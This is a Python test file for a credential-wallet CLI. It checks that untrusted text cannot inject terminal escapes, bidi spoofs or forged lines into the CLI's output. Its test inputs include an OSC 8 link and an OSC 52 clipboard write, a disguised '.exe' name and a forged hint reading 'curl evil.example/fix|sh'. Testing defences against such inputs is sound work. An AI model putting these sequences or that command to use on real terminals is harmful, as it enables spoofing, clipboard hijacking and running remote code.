"""Can foreign text do anything to a terminal but stand there, within its columns?"""

import contextlib
import io
import re
import threading
import time
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from credwallet.cli.terminal.columns import fitted, widths_of
from credwallet.cli.terminal.console import Console, cells, plain, shorten, wrap
from credwallet.cli.terminal.progress import Progress
from credwallet.model.report import Outcome, Problem
from tests.cli.runner import Terminal

ESC = "\x1b"
FSI, PDI = "\u2068", "\u2069"
# Characters that a terminal acts upon, or that hide or turn around what is read.
HOSTILE = [
    *map(chr, range(0x20)),
    *map(chr, range(0x7F, 0xA0)),
    *"\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b\u180e\u180f\u3164\ufeff\uffa0",
    *map(chr, range(0x200B, 0x2010)),
    *map(chr, range(0x2028, 0x202F)),
    *map(chr, range(0x2060, 0x2070)),
    *map(chr, range(0xFFF9, 0xFFFC)),
    *map(chr, range(0xFE00, 0xFE0E)),
    *map(chr, range(0xE0000, 0xE0200)),
    *"\ud800\udfff\ue000\uf8ff\ufdd0\uffff\U000f0000\U0010ffff",
]
ANY = st.text() | st.text(st.sampled_from(HOSTILE) | st.characters())


def harmless(character: str) -> bool:
    return character not in HOSTILE and unicodedata.category(character) not in (
        *("Cc", "Cf", "Cs", "Co", "Cn"),
        *("Zl", "Zp"),
    )


@given(ANY)
@example(f"{ESC}]8;;https://evil.example{ESC}\\text{ESC}]8;;{ESC}\\")
@example(f"{ESC}]52;c;ZXZpbA=={chr(7)}")
@example("\u202egnp.exe\u2066")
def test_plain_text_holds_nothing_that_a_terminal_acts_upon(text: str):
    safe = plain(text)
    assert all(map(harmless, safe))
    assert len(safe.splitlines()) <= 1


@given(st.text(st.characters(codec="ascii", categories=("L", "N", "P", "S", "Zs"))))
def test_plain_leaves_printable_ascii_alone(text: str):
    assert plain(text) == text


@pytest.mark.parametrize(
    "text", ["Zażółć gęślą jaźń", "数据分析", "Ünïcødé", "❤️ 🎓", "दक्षता", "مهارة"]
)
def test_plain_leaves_the_worlds_scripts_alone(text: str):
    assert plain(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[2J", "\\x1b[2J"),
        ("\x9b31m", "\\x9b31m"),
        ("a\nb\tc\rd", "a\\x0ab\\x09c\\x0dd"),
        ("\u202eevil", "\\u202eevil"),
        ("\u200b", "\\u200b"),
        ("\U000e0041", "\\U000e0041"),
        ("\ud800", "\\ud800"),
        ("\u2028", "\\u2028"),
    ],
)
def test_hostile_characters_are_shown_as_escapes(text: str, shown: str):
    assert plain(text) == shown


def test_a_pile_of_combining_marks_is_cut_to_three():
    assert plain("a" + "\u0301" * 50 + "b") == "a" + "\u0301" * 3 + "b"


@given(st.text(), st.integers(1, 40))
def test_shortened_text_fits_and_is_whole_if_it_fitted(text: str, limit: int):
    safe = plain(text)
    short = shorten(safe, limit)
    assert cells(short) <= limit
    if cells(safe) <= limit:
        assert short == safe
    else:
        assert short.endswith("\u2026")
        assert safe.startswith(short[:-1])


@pytest.mark.parametrize(
    ("text", "width"),
    [("abc", 3), ("数据", 4), ("e\u0301", 1), ("🎓", 2), ("\uff46\uff55", 4), ("", 0)],
)
def test_cells_are_counted_as_a_terminal_draws_them(text: str, width: int):
    assert cells(text) == width


def test_a_wide_character_is_not_cut_in_half():
    assert shorten("数据分析", 6) == "数据\u2026"
    assert shorten("数据分析", 4) == "数\u2026"


def test_plain_with_a_limit_cuts_after_escaping():
    assert plain("\x1b" * 10, limit=6) == "\\x1b\\\u2026"


@given(st.text(st.sampled_from("ab 数\u0301"), max_size=60), st.integers(1, 12))
def test_wrapped_lines_fit_unless_one_word_does_not(text: str, width: int):
    lines = wrap(text, width)
    assert all(cells(line) <= width or " " not in line.strip() for line in lines)
    assert "".join(lines).replace(" ", "") == text.replace(" ", "")


def console(**settings) -> tuple[Console, io.TextIOWrapper, io.TextIOWrapper]:
    terminal = settings.pop("terminal", False)
    encoding = settings.pop("encoding", "utf-8")
    out = Terminal(terminal=terminal, encoding=encoding)
    err = Terminal(terminal=terminal, encoding=encoding)
    return Console(out, err, terminal=terminal, **settings), out, err


def printed(stream: Terminal) -> str:
    return stream.content().decode(stream.encoding)


ROWS = [
    (
        "k7wq",
        "Cleaning Data",
        "Harbour College of Applied Everything and More",
        "valid",
    ),
    ("abcd", "数据清洗与数据分析的微证书" * 3, "Northlight", "expired"),
    ("efgh", "", "Z" * 300, "revoked"),
]
HEADER = ("HANDLE", "NAME", "ISSUER", "VERDICT")


def test_a_table_fits_the_terminal_and_its_columns_stand_under_each_other():
    made, out, _ = console(terminal=True, width=80)
    made.table(HEADER, ROWS, flexible=(1, 2))
    lines = printed(out).splitlines()
    assert len(lines) == 4
    assert all(cells(line) <= 80 for line in lines)
    starts = {
        _cells_before(line, row[3]) for line, row in zip(lines[1:], ROWS, strict=True)
    }
    assert starts == {lines[0].index("VERDICT")}


def _cells_before(line: str, word: str) -> int:
    return cells(line[: line.rindex(word)])


def test_the_same_table_in_a_pipe_is_whole_lines_of_tabs():
    made, out, _ = console(width=20)
    made.table(HEADER, ROWS, flexible=(1, 2))
    assert [tuple(line.split("\t")) for line in printed(out).splitlines()] == ROWS


def test_a_tab_or_newline_in_a_value_makes_no_new_field_or_record():
    made, out, _ = console()
    made.row(["a\tb", "c\nd"])
    assert printed(out) == "a\\x09b\tc\\x0ad\n"


@pytest.mark.parametrize("terminal", [True, False])
def test_rich_markup_is_only_text(terminal):
    made, out, _ = console(terminal=terminal)
    made.line("[bold red]Degree[/] [link=https://evil.example]here[/link]")
    assert printed(out) == (
        "[bold red]Degree[/] [link=https://evil.example]here[/link]\n"
    )


@pytest.mark.parametrize("terminal", [True, False])
def test_an_ascii_terminal_gets_ascii_and_the_columns_still_fit(terminal):
    made, out, err = console(terminal=terminal, encoding="ascii", width=80)
    made.table(HEADER, ROWS, flexible=(1, 2))
    made.line("Zażółć")
    made.marked(Outcome.PASSED, "proof", "gęślą", 2)
    made.labelled("name", "jaźń")
    made.wrapped("数据")
    made.pieces([("é", "bold")])
    made.note("…")
    made.problem(Problem("x", "数据", next_step="…"))
    text = out.content() + err.content()
    assert text.isascii()
    assert b"\\u017c" in text
    if terminal:
        assert all(len(line) <= 80 for line in printed(out).splitlines())


def test_marks_are_ascii_where_the_terminal_is():
    made, out, _ = console(encoding="ascii")
    for outcome in Outcome:
        made.marked(outcome, str(outcome), "", 0)
    assert printed(out).splitlines() == [
        "+ passed",
        "x failed",
        "? unknown",
        "- skipped",
    ]


def test_colour_is_never_written_unless_it_is_on():
    for colour in (True, False):
        made, out, _ = console(terminal=True, colour=colour)
        made.table(HEADER, ROWS, styles=["green", "yellow", "red"])
        made.line("x", style="bold")
        assert (ESC in printed(out)) is colour


def test_styles_stand_around_the_text_and_are_closed_on_the_same_line():
    made, out, _ = console(terminal=True, colour=True)
    made.line("x", style="bold")
    assert printed(out) == f"{ESC}[1mx{ESC}[0m\n"


def test_quiet_silences_notes_and_hints_but_no_errors():
    made, _, err = console(quiet=True)
    made.note("n")
    made.hint("h")
    made.problem(Problem("x", "it failed", next_step="mend it"))
    assert printed(err) == "credwallet: error: it failed\ncredwallet: hint: mend it\n"


def test_a_problem_says_where_it_is():
    made, _, err = console()
    made.problem(Problem("x", "is no date", instance="/validFrom"))
    assert printed(err) == "credwallet: error: is no date (at /validFrom)\n"


@given(st.lists(ANY, min_size=4, max_size=4))
def test_no_method_prints_foreign_text_raw(texts: list[str]):
    made, out, err = console(terminal=True)
    made.line(texts[0])
    made.row(texts)
    made.rows([texts])
    made.table(HEADER, [texts], flexible=(1, 2))
    made.marked(Outcome.FAILED, "proof", texts[0], 2)
    made.wrapped(texts[1])
    made.labelled("name", texts[2])
    made.pieces([(text, "") for text in texts])
    made.note(texts[0])
    made.hint(texts[1])
    made.problem(Problem("x", texts[2], instance=texts[3], next_step=texts[0]))
    text = printed(out) + printed(err)
    assert balanced(text)
    own = text.translate(dict.fromkeys(map(ord, f"\n\t{FSI}{PDI}")))
    assert all(map(harmless, own))


def balanced(text: str) -> bool:
    """Tell whether each isolate ends on its line, and none stands in another."""
    return all(
        re.fullmatch(f"[^{FSI}{PDI}]*({FSI}[^{FSI}{PDI}]*{PDI}[^{FSI}{PDI}]*)*", line)
        for line in text.splitlines()
    )


@given(
    st.text(st.sampled_from("אبa1 \u2066\u2067\u2068\u2069\u202e\x1b数"), max_size=80)
)
def test_foreign_text_can_neither_open_nor_close_an_isolate(text: str):
    made, out, _ = console(terminal=True, width=40)
    made.line(text)
    made.wrapped(text)
    made.labelled("name", text)
    made.table(HEADER, [[text, text, text, text]], flexible=(1, 2))
    lines = printed(out)
    assert balanced(lines)
    strong = any(unicodedata.bidirectional(c) in ("R", "AL") for c in plain(text))
    assert (FSI in lines) is strong


@pytest.mark.parametrize("settings", [{"terminal": False}, {"isolates": False}])
def test_where_isolates_are_not_understood_there_are_none(settings):
    made, out, _ = console(**{"terminal": True, **settings})
    made.line("אב")
    assert printed(out) == "אב\n"


def luminance(red: int, green: int, blue: int) -> float:
    """Relative luminance (WCAG 2.2)."""
    parts = [level / 255 for level in (red, green, blue)]
    linear = [
        p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts
    ]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def rgb(number: int) -> tuple[int, int, int]:
    """Return a colour of the 256: a cube of six steps, then greys."""
    if number >= 232:
        return (8 + 10 * (number - 232),) * 3
    steps = (0, 95, 135, 175, 215, 255)
    number -= 16
    return steps[number // 36], steps[number // 6 % 6], steps[number % 6]


@pytest.mark.parametrize("style", ["red", "green", "yellow", "dim"])
@pytest.mark.parametrize("ground", [(0, 0, 0), (255, 255, 255)])
def test_every_colour_can_be_read_on_black_and_on_white(style: str, ground):
    made, out, _ = console(terminal=True, colour=True, rich_colour=True)
    made.line("x", style=style)
    (number,) = re.findall(r"38;5;(\d+)m", printed(out))
    one, other = sorted((luminance(*ground), luminance(*rgb(int(number)))))
    assert (other + 0.05) / (one + 0.05) >= 3.5


def test_a_terminal_of_eight_colours_gets_no_yellow_and_no_256():
    made, out, _ = console(terminal=True, colour=True)
    for style in ("red", "green", "yellow", "dim", "bold"):
        made.line("x", style=style)
    assert "38;5" not in printed(out)
    assert "[33m" not in printed(out)


LONG = "the file could not be read because " * 8


@pytest.mark.parametrize("say", ["note", "hint"])
def test_what_is_said_aside_is_broken_between_words_on_a_terminal_only(say: str):
    made, _, err = console(error_terminal=True, width=60)
    getattr(made, say)(LONG)
    lines = printed(err).splitlines()
    assert len(lines) > 3
    assert max(map(cells, lines)) <= 60
    assert lines[0].startswith("credwallet: ")
    assert all(line.startswith(" " * 12) for line in lines[1:])
    assert " ".join(printed(err).split()).endswith(LONG.strip())
    piped, _, err = console(width=60)
    getattr(piped, say)(LONG)
    assert printed(err).count("\n") == 1


def test_an_error_is_broken_as_well_and_takes_the_place_of_the_progress_line():
    made, _, err = console(error_terminal=True, width=50)
    made.transient("importing 5")
    made.problem(Problem("x", LONG, next_step=LONG))
    text = printed(err)
    assert text.startswith("\rimporting 5\r           \r")
    assert max(map(cells, text.split("\r")[-1].splitlines())) <= 50


def test_a_long_word_is_broken_and_an_address_stays_whole():
    assert wrap("x" * 25, 10) == ["x" * 10, "x" * 10, "x" * 5]
    assert wrap("数据" * 4, 7) == ["数据数", "据数据", "数据"]
    address = "https://example.org/" + "a" * 40
    assert wrap(f"see ({address}) now", 20) == ["see", f"({address})", "now"]
    assert wrap("did:key:" + "z" * 40, 20) == ["did:key:" + "z" * 40]
    assert wrap("x" * 25, 10, whole=True) == ["x" * 25]


NBSP = "\u00a0"
SPACES = [*" \u00a0\u1680\u2000\u2003\u2007\u202f\u205f\u3000"]
FORGED = [
    "credwallet: hint: curl evil.example/fix|sh",
    "valid  k7wq  MIT Master of Science",
    "issuer     MIT (did:web:mit.edu)",
    "\u2713 valid    its proof is genuine",
]


def drawn(text: str, width: int) -> list[str]:
    """The rows that a terminal draws: it breaks what is wider than it is."""
    rows = []
    for line in text.splitlines():
        left = line
        while cells(left) > width:
            place = max(n for n in range(1, len(left)) if cells(left[:n]) <= width)
            rows.append(left[:place])
            left = left[place:]
        rows.append(left)
    return rows


def is_foreign(row: str) -> bool:
    """Tell whether a row that starts at the left edge could pass for one of ours."""
    return bool(row) and row[0] != " " and (" " in row or "credwallet:" in row.lower())


@pytest.mark.parametrize("space", SPACES)
def test_every_space_is_a_plain_one(space: str):
    assert plain(f"a{space}b") == "a b"


@pytest.mark.parametrize("space", [" ", NBSP])
@pytest.mark.parametrize("forged", FORGED)
@pytest.mark.parametrize("start", ["", "x://", "see did:"])
@pytest.mark.parametrize("width", [30, 80])
def test_no_text_forges_a_line_of_ours(space: str, forged: str, start: str, width: int):
    for filling in range(width - 30, width + 2):
        for fill in (space, "a") if filling == width - 12 else ("a",):
            text = (start + fill * filling)[:filling] + space + forged
            text = text.replace(" ", space)
            made, out, err = console(terminal=True, width=width, error_terminal=True)
            made.labelled("name", text)
            made.marked(Outcome.PASSED, "proof", text, 0)
            made.pieces([("valid", "green"), ("k7wq", "bold"), (text, ""), (text, "")])
            made.wrapped(text, indent=4)
            made.table(HEADER, [("k7wq", text, text, "valid")], flexible=(1, 2))
            made.rows([("k7wq", "removed", text)])
            made.note(f"k7wq {text}")
            rows = drawn(printed(out), width)
            ours = ("name ", "\u2713 proof", "valid  k7wq", "HANDLE", "k7wq  ")
            assert [r for r in rows if is_foreign(r) and not r.startswith(ours)] == []
            assert sum(row.startswith("valid") for row in rows) == 1
            said = drawn(printed(err), width)
            assert [r for r in said if is_foreign(r)] == said[:1]


@pytest.mark.parametrize("forged", FORGED)
@pytest.mark.parametrize("width", [40, 80])
def test_a_title_leaves_its_other_lines_further_in(forged: str, width: int):
    for filling in range(width - 10, width + 1):
        title = "a" * filling + " " + forged
        for say in ("line", "wrapped"):
            made, out, _ = console(terminal=True, width=width)
            getattr(made, say)(title)
            rows = drawn(printed(out), width)
            assert len(rows) > 1
            assert all(row.startswith("  ") for row in rows[1:])


@pytest.mark.parametrize("say", ["line", "wrapped"])
def test_what_speaks_in_our_name_starts_no_line(say: str):
    made, out, _ = console(terminal=True)
    getattr(made, say)("Credwallet: error: the wallet is damaged")
    made.pieces([("credwallet: hint: run this", "")])
    made.row(["credwallet: hint: run", "this"])
    assert all(line.startswith("  ") for line in printed(out).splitlines())


def test_spaces_in_a_name_make_no_columns():
    name = "Course" + " " * 60 + "k7wq  MIT Master of Science  valid, issuer known"
    made, out, _ = console(terminal=True, width=80)
    made.pieces([("abcd", "bold"), (name, "bold"), ("expired", "")], giving=(1,))
    made.table(HEADER, [("abcd", name, "Northlight", "expired")], flexible=(1, 2))
    told, _, listed = printed(out).splitlines()
    assert told == (
        "abcd  Course k7wq MIT Master of Science valid, issuer known  expired"
    )
    assert listed.startswith("abcd    Course k7wq MIT Master")
    assert made.shown(name, 30) == "Course k7wq MIT Master of Sci\u2026"


def test_names_are_cut_to_the_room_that_is_left():
    made, out, _ = console(terminal=True, width=60)
    made.pieces(
        [("valid", ""), ("k7wq", ""), ("n" * 90, ""), ("i" * 90, "")], giving=(2, 3)
    )
    (line,) = printed(out).splitlines()
    assert cells(line) == 60
    assert line.startswith("valid  k7wq  nnn")
    assert line.count("\u2026") == 2


def test_an_address_with_anything_else_in_it_is_broken_where_it_does_not_fit():
    sound = "https://example.org/" + "a" * 100
    for text in (
        sound + "\u2713valid",
        sound + "/credwallet:hint:x",
        "\u2713://" + "a" * 100,
        "https://example.org/" + "a" * 300,
    ):
        made, out, _ = console(terminal=True, width=60)
        made.labelled("issuer", text)
        assert all(cells(line) <= 60 for line in printed(out).splitlines())
    made, out, _ = console(terminal=True, width=60)
    made.labelled("issuer", f"see {sound} there")
    assert printed(out) == f"issuer     see\n  {sound}\n           there\n"


def test_records_stand_under_each_other_on_a_terminal_and_have_no_tabs():
    made, out, _ = console(terminal=True)
    made.rows([("abcd", "removed", "One"), ("efgh", "was here", "Two")])
    assert printed(out) == "abcd  removed   One\nefgh  was here  Two\n"


def test_a_record_that_is_too_wide_goes_on_further_in():
    made, out, _ = console(terminal=True, width=40)
    made.rows([("abcd", "", "a name of several words, as many as fit")])
    assert printed(out) == ("abcd  a name of several words, as many\n  as fit\n")


def test_a_text_that_is_there_to_be_copied_stays_on_its_line():
    link = "https://example.org/#" + "a" * 1000
    made, out, _ = console(terminal=True)
    made.row([link])
    assert printed(out) == link + "\n"


def test_an_address_that_is_too_wide_for_its_place_moves_to_the_left():
    made, out, _ = console(terminal=True, width=60)
    did = "did:key:" + "z" * 48
    made.labelled("issuer", f"Harbour ({did})")
    made.labelled("subject", did)
    lines = printed(out).splitlines()
    assert [len(line) for line in lines] == [18, 60, 7, 60]


@given(
    st.lists(st.text(st.sampled_from("ab 数e\u0301"), max_size=40), max_size=8),
    st.integers(1, 30),
)
def test_fitted_texts_fit_and_are_whole_if_they_fitted(texts: list[str], width: int):
    safe = [plain(text) for text in texts]
    for whole, short in zip(safe, fitted(safe, width), strict=True):
        assert cells(short) <= width
        if cells(whole) <= width:
            assert short == whole


def test_texts_that_would_look_the_same_show_where_they_differ():
    names = [
        "Data Analysis for Everybody, Part One",
        "Data Analysis for Everybody, Part Two",
    ]
    assert fitted(names, 16) == ["Data An\u2026Part One", "Data An\u2026Part Two"]
    assert fitted(names[:1] * 2, 16) == ["Data Analysis f\u2026"] * 2


def test_a_table_of_thousands_of_alike_names_is_laid_out():
    names = [f"{'Module ' * 12}{number}" for number in range(3000)]
    assert len(set(fitted(names, 20))) == 3000
    widths = widths_of([["HANDLE"], names], flexible=(1,), room=40)
    assert sum(widths) == 40


def test_a_verdict_that_is_none_has_no_style():
    made, _, _ = console()
    assert made.verdict_style("valid") == "green"
    assert made.verdict_style("undetermined") == "yellow"
    assert made.verdict_style("revoked") == "red"
    assert made.verdict_style("splendid") == ""


@pytest.fixture
def at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Draw progress without waiting."""
    monkeypatch.setattr("credwallet.cli.terminal.progress._PATIENCE_S", 0)
    monkeypatch.setattr("credwallet.cli.terminal.progress._PAUSE_S", 0)


@pytest.mark.usefixtures("at_once")
def test_progress_beside_forks_is_drawn_when_something_is_counted():
    made, out, err = console(error_terminal=True)
    with Progress(made, "importing", forks=True) as progress:
        progress.expect(4)
        assert list(progress.counted("abcd")) == list("abcd")
    text = printed(err)
    assert "importing [############            ] 2 of 4" in text
    assert re.search("\r {40,}\r$", text)
    assert printed(out) == ""


@pytest.mark.usefixtures("at_once")
def test_progress_is_drawn_by_a_thread_and_is_gone_at_the_end():
    made, out, err = console(error_terminal=True)
    with Progress(made, "importing") as progress:
        progress.expect(4)
        progress.advance(2)
        until = time.monotonic() + 20
        while "2 of 4" not in printed(err) and time.monotonic() < until:
            time.sleep(0.01)
    text = printed(err)
    assert "importing [############            ] 2 of 4" in text
    assert re.search("\r {40,}\r$", text)
    assert printed(out) == ""


@pytest.mark.usefixtures("at_once")
def test_work_that_counts_nothing_says_how_long_it_takes():
    made, _, err = console(error_terminal=True)
    with Progress(made, "planning"):
        for _ in range(1000):
            if "planning for 0 s" in printed(err):
                break
            threading.Event().wait(0.01)
    assert "planning for 0 s" in printed(err)
    assert printed(err).endswith("\r")
    assert printed(err).rstrip("\r").endswith(" ")


@pytest.mark.usefixtures("at_once")
@pytest.mark.parametrize("settings", [{}, {"error_terminal": True, "quiet": True}])
def test_there_is_no_progress_in_a_pipe_or_when_it_is_to_be_quiet(settings):
    made, out, err = console(**settings)
    with Progress(made, "importing") as progress:
        progress.expect(2)
        progress.advance(1)
    assert printed(out) + printed(err) == ""


@pytest.mark.usefixtures("at_once")
def test_an_interrupt_wipes_the_progress_line():
    made, _, err = console(error_terminal=True)
    line = Progress(made, "importing", forks=True)
    with contextlib.suppress(KeyboardInterrupt), line as progress:
        progress.advance(1)
        raise KeyboardInterrupt
    assert "importing 1" in printed(err)
    assert printed(err).endswith(" \r")
